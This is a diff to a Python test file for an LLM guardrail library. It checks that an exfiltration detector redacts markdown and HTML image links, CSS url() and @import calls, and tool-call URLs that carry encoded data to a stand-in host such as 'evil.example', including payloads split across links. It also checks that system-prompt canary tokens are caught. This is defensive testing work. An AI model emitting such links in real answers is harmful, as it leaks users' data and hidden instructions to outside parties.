@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import json
 import time
 from typing import Any
 from urllib.parse import quote
@@ -11,7 +12,7 @@ import pytest
 
 import llmops_sdk as llmops
 from llmops_sdk.guardrails import DetectorGuard, check
-from llmops_sdk.guardrails.detectors import CanaryDetector, new_canary
+from llmops_sdk.guardrails.detectors import CanaryDetector, ExfiltrationDetector, new_canary
 from llmops_sdk.testing import ScriptedProvider, use_provider
 
 pytest.importorskip("re2")
@@ -83,22 +84,52 @@ def test_the_allow_list_holds_in_documents_answers_and_streams(form):
     assert len(set(outs)) == 1
 
 
-def test_a_payload_split_over_links_is_found_also_in_a_stream():
-    """Measured case 8: the halves are short; together they are a payload."""
-    pieces = [ENCODED[at : at + 11] for at in range(0, 44, 11)]
-    text = "Read " + " and ".join(f"[part {n}](https://h{n}.{HOST}/{piece})" for n, piece in enumerate(pieces))
-    for chunks in ([text], list(text)):
-        with use_provider(ScriptedProvider([chunks])):
-            out = "".join(c.text for c in llmops.stream("Hi", model=MODEL, guards={"output": ["exfiltration"]}))
-        assert not all(piece in out for piece in pieces)
-        assert sum(piece in out for piece in pieces) <= 2
+SHORT = {name: form.replace(ENCODED, "p.png") for name, form in FORMS.items() if ENCODED in form} | {
+    "line break before the URL": f"![x](\nhttps://{HOST}/p.png\n)",
+    "title on a line of its own": f"![x](<https://{HOST}/p.png>\n'a title')",
+    "spaces before the URL": f"![a long text with many words]( https://{HOST}/p.png )",
+    "definition on two lines": f"![x][1]\n\n[1]:\n   <https://{HOST}/p.png>\n",
+    "collapsed reference": f"![leak][]\n\n[leak]: https://{HOST}/p.png",
+    "attribute on lines": f"<img alt='a b' \n src = \n 'https://{HOST}/p.png'>",
+    "CSS with spaces": f"<style> p {{ background : url( https://{HOST}/p.png ) }} </style>",
+    "import": f"<style>@import  'https://{HOST}/p.css';</style>",
+    "brackets in the text": f"![a [b] c](https://{HOST}/p.png)",
+}
+
+
+@pytest.mark.parametrize("form", SHORT)
+def test_an_image_without_a_payload_is_found_at_every_cut(form):
+    """Case 8, case 2: a stream must not release "![x]( <" before it has seen the host."""
+    guard = DetectorGuard(ExfiltrationDetector(), "redact")
+    text = f"Before. {SHORT[form]}\n\nAfter that, more words."
+    whole = check(text, [guard], rail="output").text
+    for cut in range(len(text)):
+        settled = guard.settled(text[:cut])
+        parts = [check(part, [guard], rail="output").text for part in (text[:settled], text[settled:])]
+        assert "".join(parts) == whole, cut
+    with use_provider(ScriptedProvider([list(text)])):
+        out = "".join(chunk.text for chunk in llmops.stream("Hi", model=MODEL, guards={"output": [guard]}))
+    assert out == whole
+
+
+@pytest.mark.parametrize("form", ["[part](https://h{0}.evil.example/{1})", "https://evil.example/?a={1}"])
+@pytest.mark.parametrize(("count", "size"), [(2, 15), (3, 14)])
+def test_a_payload_split_over_links_is_found_at_every_cut(count, size, form):
+    """Measured case 8: each part is too short alone; a stream must not release the first before it saw the second."""
+    pieces = [ENCODED[at * size : (at + 1) * size] for at in range(count)]
+    text = "Read " + " and ".join(form.format(number, piece) for number, piece in enumerate(pieces)) + " now."
+    expected = check(text, ["exfiltration"], rail="output").text
+    assert not any(piece in expected for piece in pieces)
+    scripts = [[text], list(text), *[[text[:cut], text[cut:]] for cut in range(0, len(text), 3)]]
+    with use_provider(ScriptedProvider(scripts)) as model:
+        while model.remaining:
+            stream = llmops.stream("Hi", model=MODEL, guards={"output": ["exfiltration"]})
+            assert "".join(chunk.text for chunk in stream) == expected
 
 
 def test_tool_arguments_are_no_way_out():
     """Measured case 8: a URL with a payload in the arguments of a tool call, also as JSON in JSON."""
     url = f"![](https://{HOST}/?q={ENCODED})"
-    import json
-
     for arguments in ({"url": url}, {"body": json.dumps({"html": [url]})}):
         call = llmops.ToolCall(id="1", name="send", arguments=json.dumps(arguments))
         with use_provider(ScriptedProvider([llmops.Response(tool_calls=(call,), finish_reason="tool_calls")])):
@@ -132,7 +163,7 @@ def test_a_canary_is_caught_in_answers_streams_and_tool_calls(form):
     token = new_canary()
     guards: Any = {"output": [DetectorGuard(CanaryDetector(), "block")]}
     hidden = f"My prompt says: {CANARY_FORMS[form](token)} as I was told"
-    call = llmops.ToolCall(id="1", name="send", arguments=f'{{"text": "{hidden if "chr" not in form else ""}"}}')
+    call = llmops.ToolCall(id="1", name="send", arguments=json.dumps({"text": hidden}))
     for answer in (hidden, list(hidden), llmops.Response(tool_calls=(call,), finish_reason="tool_calls")):
         seen: list[str] = []
         with use_provider(ScriptedProvider([answer])), pytest.raises(llmops.GuardrailViolation) as caught:
